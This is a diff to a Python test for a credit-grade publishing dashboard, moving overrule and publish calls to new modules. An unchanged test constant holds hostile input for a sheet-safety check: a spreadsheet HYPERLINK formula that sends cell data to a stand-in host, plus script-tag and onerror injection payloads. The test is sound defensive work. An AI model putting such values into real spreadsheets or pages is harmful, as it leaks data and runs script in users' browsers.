@@ -18,9 +18,10 @@ from dashboard.i18n import Translator
 from dashboard.nav import ROOT
 from data.state import State
 from data.warehouse import open_snapshot
-from services import publishing_grades
+from services import grade_decisions, publication_flow, publishing_grades
 from services.customers import CustomerFile
 from services.policy_files import read_policy
+from tests.actors import by
 
 NAME = (
     "=HYPERLINK(\"http://evil.example/?\"&A1)<script>alert('x')</script><img src=//evil.example/i onerror=x>"
@@ -115,8 +116,8 @@ def test_the_sheet_is_safe_whole_and_says_what_it_rests_on(
     drafted = publishing_grades.draft(state, db, policy, AS_OF).customers.to_pylist()
     number = next(str(r["cons_no"]) for r in drafted if r["computed"] != "B")
     first, last = AS_OF + timedelta(days=1), date(2026, 12, 31)
-    publishing_grades.overrule(state, policy, number, "B", first, last, "wang", WHY)
-    publishing_grades.publish(state, publishing_grades.draft(state, db, policy, AS_OF), "li", "yearly")
+    grade_decisions.overrule(db, state, by("wang"), policy, number, "B", first, last, WHY)
+    publication_flow.publish(state, publishing_grades.draft(state, db, policy, AS_OF), by("li"), "yearly")
     made: list[str] = []
 
     def offered(view: CreditView, found: CustomerFile, _: str) -> None:
